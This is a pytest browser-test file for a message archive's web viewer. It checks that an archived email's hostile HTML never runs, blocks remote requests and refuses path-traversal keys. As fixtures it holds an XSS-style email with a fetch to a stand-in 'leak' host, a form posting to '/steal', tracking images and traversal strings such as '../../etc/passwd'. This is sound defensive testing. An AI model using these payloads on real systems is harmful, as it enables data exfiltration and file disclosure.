"""message-archiver serve, in a real headless Chromium (Debian's, driven by Playwright).

The archive is filled by the pipeline with realistic messages and a hostile
email whose HTML holds a script, an event handler, a form and remote images;
a person searches, opens messages, and downloads, as a compliance officer
would. Every request the browser makes is routed through a guard that aborts
(and records) anything not on loopback, so nothing ever leaves the machine and
the test sees it was attempted. Screenshots go under the test's folder;
docs/screenshots/ holds the committed ones (`python -m tests.test_web`
makes them again).
"""

from __future__ import annotations

import json
import os
import shutil
import socket
import threading
import time
import urllib.error
import urllib.parse
import urllib.request
from contextlib import contextmanager

import pytest
import uvicorn

from archive.sample import samples
from pipeline import run
from retrieval import web
from retrieval.bucket import Bucket

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
MARK = "pwned-by-archived-html"
HOSTILE_HTML = (
    f"<html><head><script>document.title='{MARK}';parent.document.title='{MARK}';"
    f"fetch('http://203.0.113.9/leak?x=1')</script><link rel=stylesheet href='http://203.0.113.9/s.css'></head>"
    f"<body onload=\"top.location='http://203.0.113.9/'\"><h1 id=hello>Hello &amp; welcome</h1>"
    f"<img src='http://203.0.113.9/pixel.png'><img src='https://203.0.113.10/track.gif'>"
    f"<form action='http://203.0.113.9/steal'><input name=q></form>"
    f"<p>{'<b>&lt;/textarea&gt;</b>'}</p></body></html>")
HOSTILE_SUBJECT = "<script>alert(1)</script> \"quoted\" & <b>bold</b>"
PERSON = "officer.case@example.org"


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@contextmanager
def serving(app):
    """The app on 127.0.0.1 in a uvicorn server thread, stopped on exit."""
    port = _free_port()
    server = uvicorn.Server(uvicorn.Config(app, host="127.0.0.1", port=port, log_level="warning"))
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    deadline = time.monotonic() + 20
    while not server.started and time.monotonic() < deadline:
        time.sleep(0.05)
    assert server.started
    try:
        yield f"http://127.0.0.1:{port}"
    finally:
        server.should_exit = True
        thread.join(10)


def _sample_records(count: int, prefix: str, hostile_id: str) -> list[dict]:
    """The sample's messages with our ids, the first email to PERSON with hostile HTML and subject."""
    records = [json.loads(s.data) for s in samples(count, "clevertap", seed=3, bad_ratio=0.0)]
    for index, record in enumerate(records):
        record.pop("dispatch_id", None)
        record["message_id"] = f"{prefix}-{index}"
    emails = [r for r in records if r["channel"].lower() == "email"]
    emails[0].update(to=PERSON, html_body=HOSTILE_HTML, subject=HOSTILE_SUBJECT, message_id=hostile_id)
    return records


def _archived(work, records: list[dict], *flags) -> str:
    inputs = work / "in.jsonl"
    inputs.write_text("".join(json.dumps(r) + "\n" for r in records))
    destination = str(work / "archive")
    assert run.main(["--input", str(inputs), "--destination", destination, "--outcomes", str(work / "out"),
                     "--default_region", "US", "--summary", "false", *flags]) == 0
    return destination


@pytest.fixture(scope="module")
def archive(tmp_path_factory):
    records = _sample_records(60, "web", "hostile-1")
    emails = [r for r in records if r["channel"].lower() == "email"]
    emails[1].update(to=PERSON, message_id="plain-2")
    sms = next(r for r in records if r["channel"].lower() == "sms")
    sms["message_id"] = "sms-3"
    return _archived(tmp_path_factory.mktemp("web"), records), sms


@pytest.fixture(scope="module")
def eml_archive(tmp_path_factory):
    """The same hostile email archived as an RFC 5322 .eml (`--email_format eml`), not as JSON."""
    return _archived(tmp_path_factory.mktemp("web-eml"), _sample_records(12, "eml", "hostile-eml-1"),
                     "--email_format", "eml")


@pytest.fixture(scope="module")
def browser():
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        launched = playwright.chromium.launch(executable_path=CHROMIUM, headless=True,
                                              args=["--no-sandbox", "--disable-gpu"])
        yield launched
        launched.close()


@contextmanager
def guarded_page(browser):
    """A page whose every request off loopback is aborted before it is sent, and recorded."""
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    page = context.new_page()
    attempts, console = [], []

    def route(route_):
        host = urllib.parse.urlsplit(route_.request.url).hostname or ""
        if host in ("127.0.0.1", "localhost", "::1"):
            route_.continue_()
        else:
            attempts.append(route_.request.url)
            route_.abort()
    context.route("**/*", route)
    page.on("console", lambda message: console.append(message.text))
    try:
        yield page, attempts, console
    finally:
        context.close()


def test_serve_refuses_a_non_loopback_address_without_credentials():
    for host in ("0.0.0.0", "203.0.113.5", "::", "example.org"):
        with pytest.raises(web.Refused):
            web.check_exposure(host, None, None)
    web.check_exposure("0.0.0.0", "a-token", None)
    web.check_exposure("::", None, "user:password")
    web.check_exposure("127.0.0.1", None, None)
    web.check_exposure("::1", None, None)
    with pytest.raises(web.Refused):
        web.check_exposure("0.0.0.0", None, "no-colon")


def test_a_token_or_basic_auth_guards_every_page(archive):
    destination, _ = archive
    targets = [("default", Bucket(destination))]
    with serving(web.create_app(targets, token="s3cret-token")) as url:
        for path in ("/", "/?email=" + PERSON, "/download?key=x"):
            with pytest.raises(urllib.error.HTTPError) as refused:
                urllib.request.urlopen(url + path, timeout=10)
            assert refused.value.code == 401
        with pytest.raises(urllib.error.HTTPError):
            urllib.request.urlopen(urllib.request.Request(url + "/", headers={"Authorization": "Bearer wrong"}),
                                   timeout=10)
        ok = urllib.request.urlopen(urllib.request.Request(url + "/", headers={"Authorization":
                                                                               "Bearer s3cret-token"}), timeout=10)
        assert ok.status == 200 and "default-src 'none'" in ok.headers["Content-Security-Policy"]
    with serving(web.create_app(targets, basic_auth="officer:pa:ss")) as url:
        with pytest.raises(urllib.error.HTTPError) as refused:
            urllib.request.urlopen(url + "/", timeout=10)
        assert refused.value.code == 401 and "Basic" in refused.value.headers["WWW-Authenticate"]
        import base64
        good = base64.b64encode(b"officer:pa:ss").decode()
        assert urllib.request.urlopen(urllib.request.Request(url + "/", headers={"Authorization": f"Basic {good}"}),
                                      timeout=10).status == 200


def test_only_archive_keys_are_ever_read(archive):
    destination, _ = archive
    with serving(web.create_app([("default", Bucket(destination))])) as url:
        for key in ("../../etc/passwd", "archive_index/x.parquet", "sent_messages/../../outcomes",
                    "sent_messages/Sms/202406/1/" + "a" * 32 + "/../../../x.json.lz4", ""):
            for path in ("/message", "/download", "/eml", "/message/body"):
                with pytest.raises(urllib.error.HTTPError) as refused:
                    urllib.request.urlopen(f"{url}{path}?key={urllib.parse.quote(key)}", timeout=10)
                assert refused.value.code == 404


def test_search_open_an_email_whose_script_never_runs_and_download_it(archive, browser, tmp_path):
    destination, sms = archive
    shots = tmp_path / "screenshots"
    shots.mkdir()
    with serving(web.create_app([("default", Bucket(destination))])) as url, guarded_page(browser) as (
            page, attempts, console):
        page.goto(url + "/")
        page.fill("input[name=email]", PERSON.upper())
        page.click("button[type=submit]")
        page.wait_for_selector("#results")
        assert page.inner_text("#count").startswith("2 message(s)")
        assert page.locator("#results td.ok").count() == 2  # each object re-read and its sha256 matched
        page.screenshot(path=str(shots / "search.png"), full_page=True)

        page.click("text=hostile-1")
        page.wait_for_selector("#body")
        frame = page.frame_locator("#body")
        assert frame.locator("#hello").inner_text() == "Hello & welcome"  # the HTML rendered...
        time.sleep(1.0)  # ...and had every chance to run its script and load its resources
        assert MARK not in page.title() and all(MARK not in f.title() for f in page.frames if f != page.main_frame)
        assert attempts == []  # the CSP stopped the requests before the browser even asked for them
        assert page.locator("#status").inner_text() == "ok"
        heading = page.inner_text("h3")
        assert heading == HOSTILE_SUBJECT  # shown as text: the subject's markup is escaped, not rendered
        assert page.locator("h3 b").count() == 0 and page.locator("script").count() == 0
        page.screenshot(path=str(shots / "message-email.png"), full_page=True)

        with page.expect_download() as download:
            page.click("#eml")
        saved = tmp_path / "message.eml"
        download.value.save_as(saved)
        import email
        import email.policy
        parsed = email.message_from_bytes(saved.read_bytes(), policy=email.policy.default)
        assert parsed["Subject"] == HOSTILE_SUBJECT and parsed["To"].lower() == PERSON

        page.goto(url + "/?" + urllib.parse.urlencode({"phone": sms["to"]}))
        page.wait_for_selector("#results")
        page.click("text=sms-3")
        page.wait_for_selector("#payload")
        assert json.loads(page.inner_text("#payload"))["body"] == sms["body"]
        assert page.locator("#body").count() == 0  # SMS is shown as its JSON, no iframe
        page.screenshot(path=str(shots / "message-sms.png"), full_page=True)
        assert not [line for line in console if MARK in line]
    if os.environ.get("WEB_SCREENSHOTS"):  # python -m tests.test_web: refresh docs/screenshots
        for shot in shots.iterdir():
            shutil.copy(shot, os.path.join(os.environ["WEB_SCREENSHOTS"], shot.name))


def test_an_archived_eml_is_shown_as_an_email_whose_script_never_runs(eml_archive, browser, tmp_path):
    import email
    import email.policy

    from archive import encoding

    bucket = Bucket(eml_archive)
    (key,) = [k for k, _ in bucket.objects() if k.endswith("/hostile-eml-1.eml.lz4")]
    stored = encoding.get_codec("lz4").decompress(bucket.read(key))
    with serving(web.create_app([("default", bucket)])) as url, guarded_page(browser) as (page, attempts, console):
        page.goto(url + "/?" + urllib.parse.urlencode({"email": PERSON}))
        page.wait_for_selector("#results")
        assert page.inner_text("#count").startswith("1 message(s)")
        assert page.locator("#results td.ok").count() == 1
        page.click("text=hostile-eml-1")
        page.wait_for_selector("#body")
        frame = page.frame_locator("#body")
        assert frame.locator("#hello").inner_text() == "Hello & welcome"  # the .eml's HTML part, rendered...
        time.sleep(1.0)  # ...and given every chance to run its script and load its resources
        assert MARK not in page.title() and all(MARK not in f.title() for f in page.frames if f != page.main_frame)
        assert attempts == [] and not [line for line in console if MARK in line]
        assert page.locator("#status").inner_text() == "ok"
        assert page.inner_text("h3") == HOSTILE_SUBJECT  # parsed back from the .eml, shown as text
        assert page.locator("h3 b").count() == 0 and page.locator("script").count() == 0
        source = page.inner_text("#payload")  # the .eml as stored, as text: its HTML is not rendered here
        assert "X-Archive-Profile: clevertap" in source and "<script>" in source
        with page.expect_download() as download:
            page.click("#eml")
        saved = tmp_path / "message.eml"
        download.value.save_as(saved)
        assert saved.read_bytes() == stored  # the archived .eml, as it is
        parsed = email.message_from_bytes(saved.read_bytes(), policy=email.policy.default)
        assert parsed["Subject"] == HOSTILE_SUBJECT and parsed["To"].lower() == PERSON


def test_a_changed_object_shows_as_changed_and_paging_walks_every_result(archive, browser):
    destination, _ = archive
    bucket = Bucket(destination)
    keys = sorted(key for key, _ in bucket.objects())
    victim = keys[0]
    original = bucket.read(victim)
    with open(bucket.path(victim), "r+b") as handle:  # one byte flipped in place
        handle.seek(len(original) - 1)
        handle.write(bytes([original[-1] ^ 1]))
    try:
        with serving(web.create_app([("default", Bucket(destination))])) as url, guarded_page(browser) as (
                page, attempts, _):
            page.goto(url + "/?since=2000-01-01")
            seen = set()
            while True:
                page.wait_for_selector("#results")
                seen.update(page.locator("#results td.key").all_inner_texts())
                if page.locator("text=next →").count() == 0:
                    break
                page.click("text=next →")
            assert seen == set(keys)
            page.goto(url + "/message?key=" + urllib.parse.quote(victim))
            assert page.locator("#status").inner_text() == "changed"
            assert attempts == []
    finally:
        with open(bucket.path(victim), "r+b") as handle:
            handle.write(original)


if __name__ == "__main__":  # refresh the committed screenshots
    import sys
    target = os.path.join(ROOT, "docs", "screenshots")
    os.makedirs(target, exist_ok=True)
    os.environ["WEB_SCREENSHOTS"] = target
    sys.exit(pytest.main([__file__, "-q", "-k", "script_never_runs", "-p", "no:cacheprovider"]))
